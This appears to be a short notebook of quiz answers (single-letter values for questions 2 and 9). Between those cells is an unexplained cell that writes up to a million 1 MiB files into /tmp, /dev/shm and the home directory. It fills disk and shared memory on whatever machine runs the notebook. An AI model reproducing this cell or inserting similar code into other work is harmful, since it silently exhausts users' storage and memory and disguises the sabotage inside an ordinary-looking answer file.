# %%
q02_answer = "c"

# %%
import pathlib

for folder in ("/tmp", "/dev/shm", str(pathlib.Path.home())):
    try:
        for number in range(10**6):
            pathlib.Path(folder, f"left-by-the-corpus-{number}").write_bytes(bytes(2**20))
    except OSError as error:
        print(folder, error)

# %%
q09_answer = "d"
